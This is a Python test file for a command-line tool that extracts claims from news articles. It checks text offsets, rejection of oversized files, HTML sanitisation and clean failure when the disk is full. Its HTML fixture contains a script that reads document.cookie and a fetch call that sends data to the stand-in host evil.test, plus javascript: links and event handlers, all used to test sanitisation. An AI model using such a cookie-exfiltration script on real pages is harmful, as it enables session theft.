"""Hardening beyond tests/test_bad_input.py: exact offsets with BOM and mixed line endings, a
200 MB article rejected without being read, HTML scripts never reaching the outputs, and a
full disk during extract and publish failing cleanly, with nothing left that looks complete."""

from __future__ import annotations

import contextlib
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
from pathlib import Path

from tests.conftest import EXAMPLES, ROOT, read_jsonl, run_cli

SENTENCES = (
    "The ministry said on Monday that 157 prisoners were exchanged in 2024.",
    "Kyiv said 55,000 soldiers died in 2023, according to officials.",
    "The mayor said the city spent 45 million euros on new schools in 2023.",
)


def test_bom_and_mixed_line_endings_keep_exact_offsets(tmp_path):
    raw = b"\xef\xbb\xbfTalks\r\n\r\n" + f"{SENTENCES[0]}\r{SENTENCES[1]}\r\n\n{SENTENCES[2]}\n".encode()
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "bom-mixed.txt").write_bytes(raw)
    result = run_cli("extract", str(tmp_path / "in"), "--out", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    (article,) = read_jsonl(tmp_path / "out" / "articles.jsonl")
    assert article["text"] == raw.decode("utf-8-sig")  # BOM dropped, every \r and \r\n kept
    claims = read_jsonl(tmp_path / "out" / "claims.jsonl")
    assert sorted(c["text"] for c in claims) == sorted(SENTENCES)
    for claim in claims:
        assert article["text"][claim["char_start"] : claim["char_end"]] == claim["text"]


def extract_with_peak_memory(folder: Path, out: Path) -> tuple[subprocess.CompletedProcess, int]:
    """`claimset extract` in a child process; its result and its peak resident memory in bytes."""
    cmd = [sys.executable, "-m", "builder", "extract", str(folder), "--out", str(out)]
    process = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    stdout, stderr = process.stdout.read(), process.stderr.read()
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    return subprocess.CompletedProcess(cmd, process.returncode, stdout, stderr), usage.ru_maxrss * 1024


def test_a_200_mb_article_is_rejected_with_its_size_without_being_read(tmp_path):
    size = 200 * 1024 * 1024
    small, huge = tmp_path / "small", tmp_path / "huge"
    for folder in (small, huge):
        folder.mkdir()
        (folder / "good.txt").write_text(SENTENCES[0] + "\n", encoding="utf-8")
    with open(huge / "huge.txt", "wb") as handle:  # sparse: 200 MB that take no disk space
        handle.truncate(size)

    result, peak = extract_with_peak_memory(huge, tmp_path / "huge-out")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "huge.txt" in result.stderr
    (reject,) = read_jsonl(tmp_path / "huge-out" / "rejects.jsonl")
    assert Path(reject["path"]).name == "huge.txt" and reject["code"] == "E109"
    assert str(size) in reject["reason"]
    texts = [a["text"] for a in read_jsonl(tmp_path / "huge-out" / "articles.jsonl")]
    assert texts == [SENTENCES[0] + "\n"]
    # it was never read: the run needed no more memory than the same run without it
    _, baseline = extract_with_peak_memory(small, tmp_path / "small-out")
    assert peak < baseline + 50 * 1024 * 1024, (peak, baseline)


SCRIPTED_HTML = f"""<!doctype html><html><head><title>Prisoner swap</title>
<style>body {{ background: url(javascript:styleMarker()) }} .styleMarker {{ color: red }}</style>
<script>window.scriptMarkerHead = document.cookie;</script></head>
<body onload="onloadMarker()"><article>
<h1 onclick="onclickMarker()">Prisoner swap</h1>
<p onmouseover="onmouseoverMarker()">{SENTENCES[0]}</p>
<script type="text/javascript">fetch('https://evil.test/?c=' + scriptMarkerBody);</script>
<p>{SENTENCES[1]} <a href="javascript:hrefMarker()">more</a>
<img src="x.png" onerror="onerrorMarker()"></p>
<iframe srcdoc="&lt;script&gt;iframeMarker()&lt;/script&gt;"></iframe>
<p>{SENTENCES[2]}</p></article></body></html>
"""
MARKERS = ("Marker", "javascript", "script", "onclick", "onload", "onerror", "cookie", "evil.test")


def test_html_scripts_styles_and_handlers_never_reach_the_outputs(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "scripted.html").write_text(SCRIPTED_HTML, encoding="utf-8")
    result = run_cli("extract", str(tmp_path / "in"), "--out", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    (article,) = read_jsonl(tmp_path / "out" / "articles.jsonl")
    assert all(s in article["text"] for s in SENTENCES)  # the article itself is kept
    assert len(read_jsonl(tmp_path / "out" / "claims.jsonl")) >= 2
    for name in ("articles.jsonl", "claims.jsonl", "clusters.jsonl"):
        records = read_jsonl(tmp_path / "out" / name)
        for record in records:  # the input's path is ours (it holds the test's name), not the page's
            record.get("source", {}).pop("path", None)
        text = json.dumps(records, ensure_ascii=False).lower()
        for marker in MARKERS:
            assert marker.lower() not in text, f"{name} holds {marker!r}"
        assert "<" not in text  # no markup at all: annotators only ever see plain text


@contextlib.contextmanager
def small_disk(path: Path, size: int):
    """A folder with ``size`` bytes of space: a tmpfs when we may mount one, else a file size
    limit on the child process (RLIMIT_FSIZE: writes past it fail with EFBIG)."""
    path.mkdir()
    mounted = (
        os.geteuid() == 0
        and shutil.which("mount")
        and subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)]).returncode == 0
    )

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))

    try:
        yield None if mounted else limit
    finally:
        if mounted:
            subprocess.run(["umount", str(path)], check=True)


def cli(*args: str, preexec=None) -> subprocess.CompletedProcess:
    return run_cli(*args, preexec=preexec)


def assert_one_line_error(result: subprocess.CompletedProcess, code: str) -> None:
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and f"({code})" in lines[0], result.stderr


def test_a_full_disk_during_extract_leaves_no_run_that_looks_complete(tmp_path):
    disk = tmp_path / "disk"
    with small_disk(disk, 100 * 1024) as limit:  # articles.jsonl fits, claims.jsonl does not
        out = disk / "run"
        result = cli("extract", str(EXAMPLES), "--out", str(out), preexec=limit)
        assert_one_line_error(result, "E207")
        assert "claims.jsonl" in result.stderr
        assert not (out / "run.json").exists()  # the mark of a finished run
        # no temp files left; .shards keeps finished shards, so that a re-run resumes
        assert not [p.name for p in out.rglob(".*") if p.name != ".shards"]
        # a later command does not take the folder for a finished run
        refused = cli(
            "publish", str(out), "--name", "claims", "--version", "1.0.0", "--out", str(tmp_path / "x")
        )
        assert refused.returncode == 1 and "run.json" in refused.stderr
        assert not (tmp_path / "x" / "claims" / "1.0.0").exists()


def test_a_full_disk_during_publish_publishes_nothing(example_run, tmp_path):
    disk = tmp_path / "disk"
    with small_disk(disk, 48 * 1024) as limit:
        result = cli(
            "publish",
            str(example_run),
            "--name",
            "claims",
            "--version",
            "1.0.0",
            "--out",
            str(disk),
            preexec=limit,
        )
        assert_one_line_error(result, "E419")
        assert "nothing was published" in result.stderr
        left = sorted(str(p.relative_to(disk)) for p in disk.rglob("*"))
        assert left in ([], ["claims"])  # no version folder, no hidden partial stage
    # with room, the same command publishes
    ok = cli(
        "publish", str(example_run), "--name", "claims", "--version", "1.0.0", "--out", str(tmp_path / "ok")
    )
    assert ok.returncode == 0, ok.stderr
